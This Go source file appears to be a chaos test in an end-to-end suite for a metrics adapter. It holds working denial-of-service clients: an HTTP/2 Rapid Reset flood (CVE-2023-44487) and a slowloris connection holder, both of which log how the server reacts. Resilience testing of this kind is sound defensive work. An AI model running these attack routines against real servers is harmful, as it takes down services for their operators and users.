//go:build e2e && chaos

package chaos

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/promscaler/promscaler/test/e2e/framework"
)

// rapidReset opens conns HTTP/2 connections to addr (with the admin client
// certificate: the worst case, every stream reaches a handler) and on each
// sends, until ctx ends, batches of HEADERS for the truth metric each
// followed at once by RST_STREAM(CANCEL) (CVE-2023-44487). It reconnects
// when the server ends a connection and reports what the server did.
type rapidResetStats struct {
	streams, conns, goaways, closed atomic.Int64
}

func rapidReset(ctx context.Context, addr, path string, kp *framework.KeyPair, conns int) (*rapidResetStats, error) {
	cert, err := tls.X509KeyPair(kp.CertPEM, kp.KeyPEM)
	if err != nil {
		return nil, err
	}
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, InsecureSkipVerify: true, NextProtos: []string{http2.NextProtoTLS}} //nolint:gosec // loopback adapter
	st := &rapidResetStats{}
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				if err := resetOne(ctx, addr, path, cfg, st); err != nil && ctx.Err() == nil {
					st.closed.Add(1)
					time.Sleep(50 * time.Millisecond)
				}
			}
		}()
	}
	wg.Wait()
	return st, nil
}

func resetOne(ctx context.Context, addr, path string, cfg *tls.Config, st *rapidResetStats) error {
	d := tls.Dialer{Config: cfg, NetDialer: &net.Dialer{Timeout: 5 * time.Second}}
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return err
	}
	st.conns.Add(1)
	conn := nc.(*tls.Conn)
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	fr := http2.NewFramer(conn, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	// Read (and drop) what the server sends; answer its SETTINGS; note a GOAWAY.
	readErr := make(chan error, 1)
	var wmu sync.Mutex
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				readErr <- err
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					_ = fr.WriteSettingsAck()
					wmu.Unlock()
				}
			case *http2.GoAwayFrame:
				st.goaways.Add(1)
			}
		}
	}()
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	var batch bytes.Buffer
	bfr := http2.NewFramer(&batch, nil)
	id := uint32(1)
	for {
		select {
		case err := <-readErr:
			return err
		default:
		}
		if ctx.Err() != nil {
			return nil
		}
		batch.Reset()
		for range 100 {
			hbuf.Reset()
			for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", addr}, {":path", path}} {
				_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
			}
			_ = bfr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true})
			_ = bfr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		wmu.Lock()
		_, err := conn.Write(batch.Bytes())
		wmu.Unlock()
		if err != nil {
			return err
		}
		st.streams.Add(100)
		if id > 1<<30 {
			return errors.New("stream ids exhausted")
		}
	}
}

// slowloris opens n TLS connections to addr, sends the start of an
// HTTP/1.1 request and then one more header line every 5 s, never
// finishing it, until ctx ends. It returns how many connections the
// server closed and after how long (median), and how many it kept open.
func slowloris(ctx context.Context, addr string, n int) (closed int, medianClosed time.Duration, open int) {
	var mu sync.Mutex
	var lifetimes []time.Duration
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}, NetDialer: &net.Dialer{Timeout: 10 * time.Second}} //nolint:gosec // loopback adapter
			nc, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				return
			}
			defer nc.Close()
			t0 := time.Now()
			if _, err := fmt.Fprintf(nc, "GET /apis/custom.metrics.k8s.io/v1beta2 HTTP/1.1\r\nHost: %s\r\n", addr); err != nil {
				return
			}
			gone := make(chan struct{})
			go func() { _, _ = io.Copy(io.Discard, nc); close(gone) }()
			tick := time.NewTicker(5 * time.Second)
			defer tick.Stop()
			for k := 0; ; k++ {
				select {
				case <-ctx.Done():
					return
				case <-gone:
					mu.Lock()
					lifetimes = append(lifetimes, time.Since(t0))
					mu.Unlock()
					return
				case <-tick.C:
					_, _ = fmt.Fprintf(nc, "X-Slow-%d-%d: x\r\n", i, k)
				}
			}
		}()
	}
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	if len(lifetimes) > 0 {
		ds := make([]float64, len(lifetimes))
		for i, l := range lifetimes {
			ds[i] = float64(l)
		}
		medianClosed = time.Duration(median(ds))
	}
	return len(lifetimes), medianClosed, n - len(lifetimes)
}
